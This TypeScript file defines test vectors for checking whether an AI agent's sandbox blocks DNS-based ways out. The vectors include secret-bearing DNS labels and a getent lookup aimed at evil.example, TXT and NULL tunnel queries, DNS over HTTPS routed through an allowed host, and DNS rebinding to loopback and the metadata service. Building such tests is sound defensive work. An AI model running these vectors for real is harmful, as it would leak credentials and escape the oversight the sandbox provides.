/** G2, names: a question never leaves the guest, and what a name resolves to opens nothing. */

import type { Vector } from "../vector.ts"

const BOTH = ["agent", "root"] as const
const TXT = 16
const NULL_RECORD = 10

export const nameVectors: readonly Vector[] = [
  {
    ...common("19-dns-labels", "a secret in the labels of a name, by the guest's resolver", BOTH, "SYN"),
    how: { kind: "dns", name: "c2tlLWFudC1zZWNyZXQ.{m}.evil.example" },
    seenIn:
      "Docker Sandboxes CVE-2026-12039, httpjail#53, microsandbox#675, gh-aw-firewall#9, claude-code#36907, AWS AgentCore: the host's resolver was a way out",
  },
  dns(
    "19-dns-txt",
    "a TXT question with data, to the configured resolver",
    { name: "{m}.evil.example", type: TXT, server: "127.0.0.1" },
    "SYN",
  ),
  dns(
    "19-dns-null",
    "a NULL question, as DNS tunnels ask",
    { name: "{m}.evil.example", type: NULL_RECORD, server: "127.0.0.1", tcp: true },
    "SYN",
  ),
  {
    ...common("19-dns-by-tool", "a name looked up by the system's own tools", BOTH, "SYN"),
    how: { kind: "shell", script: "getent hosts {m}.evil.example; getent ahostsv6 {m}.data.evil" },
  },
  dns(
    "20-dns-udp",
    "a question to a public resolver",
    { name: "{m}.evil.example", server: "8.8.8.8" },
    "REF",
  ),
  dns("20-dns-tcp", "the same over TCP", { name: "{m}.evil.example", server: "8.8.8.8", tcp: true }, "REF"),
  dns(
    "20-dns-host",
    "a question to the host, by QEMU's alias for a resolver",
    { name: "{m}.evil.example", server: "10.0.2.3" },
    "REF",
  ),
  { ...common("22-dot", "DNS over TLS", ["agent"], "REF"), how: { kind: "tcp", host: "1.1.1.1", port: 853 } },
  {
    ...common("22-doq", "DNS over QUIC", ["agent"], "REF"),
    how: { kind: "udp", host: "94.140.14.14", port: 853 },
  },
  web("22-doh-public", "DNS over HTTPS at a public resolver", {
    host: "cloudflare-dns.com",
    path: "/dns-query?dns={m}",
  }),
  web("22-doh-address", "DNS over HTTPS at an address", {
    host: "8.8.8.8",
    path: "/resolve?name={m}.evil.example",
  }),
  {
    ...web("22-doh-allowed-host", "DNS over HTTPS at an allowed host", {
      host: "api.anthropic.com",
      path: "/dns-query?dns={m}",
    }),
    needs: "api.anthropic.com",
  },
  web("22-odoh", "oblivious DNS over HTTPS", {
    host: "odoh.cloudflare-dns.com",
    method: "POST",
    path: "/dns-query?{m}",
    body: "{m}",
  }),
  ...[
    ["loopback", "the host's loopback"],
    ["private", "a private network"],
    ["linklocal", "the metadata service"],
    ["mixed", "a public address and loopback"],
    ["mapped", "loopback mapped into IPv6"],
    ["nat64", "the metadata service, in a NAT64 address"],
    ["sixtofour", "loopback, in a 6to4 address"],
    ["cname", "an internal name by CNAME"],
  ].map(
    ([kind, where]): Vector => ({
      ...common(`23-rebind-${kind}`, `an allowed name that resolves to ${where}`, ["agent"], "403"),
      how: { kind: "web", to: "https", host: `{m}-${kind}.rebind.example` },
      rules: ["egress/floor"],
      needs: "any.rebind.example",
      world: "resolves",
      reaches: true,
      ...(kind === "nat64"
        ? {
            seenIn:
              "obscura#816, fastmcp#4400, langflow#14174, GitNexus#1148: NAT64 and 6to4 literals reached 169.254.169.254",
          }
        : {}),
    }),
  ),
  {
    ...common(
      "24-learned-address",
      "another port of the address that an allowed name resolved to",
      ["agent"],
      "REF",
    ),
    how: { kind: "tcp", host: "api.anthropic.com", port: 8443 },
    seenIn: "mcdonc/klangk#2279, #2285: addresses learned through a CNAME were opened on all ports",
  },
  web("26-single-label", "a name of one label", { host: "intranet" }),
  web("26-dot-local", "a name under .local", { host: "{m}.local" }),
  {
    ...web("26-trailing-dot-localhost", "localhost with a dot at its end", { host: "localhost.:80" }),
    how: { kind: "web", to: "proxy", host: "localhost.:80" },
  },
  {
    ...web("26-trailing-dot", "a denied name with a dot at its end", { host: "evil.example." }),
    seenIn: "nono#1676, smokescreen#264, peerd#3: a trailing dot, a port or an IDN beat a list",
  },
  {
    ...common("27-many-names", "more names than the resolver remembers", ["agent"], "SYN"),
    how: { kind: "dns", name: "{m}.evil.example", server: "127.0.0.1", repeat: 200 },
  },
  dns(
    "28-internal-name",
    "whether an internal name exists, told by answer or time",
    { name: "{m}.corp.internal" },
    "SYN",
  ),
]

function common<From extends Vector["from"]>(
  id: string,
  title: string,
  from: From,
  expected: Vector["expected"],
) {
  return { id, group: "G2" as const, title, from, expected }
}

type Question = Omit<Extract<Vector["how"], { kind: "dns" }>, "kind">

function dns(id: string, title: string, question: Question, expected: Vector["expected"]): Vector {
  return { ...common(id, title, BOTH, expected), how: { kind: "dns", ...question } }
}

type Asked = Pick<Extract<Vector["how"], { kind: "web" }>, "host" | "path" | "method" | "body">

function web(id: string, title: string, asked: Asked): Vector {
  return { ...common(id, title, ["agent"], "403"), how: { kind: "web", to: "https", ...asked } }
}
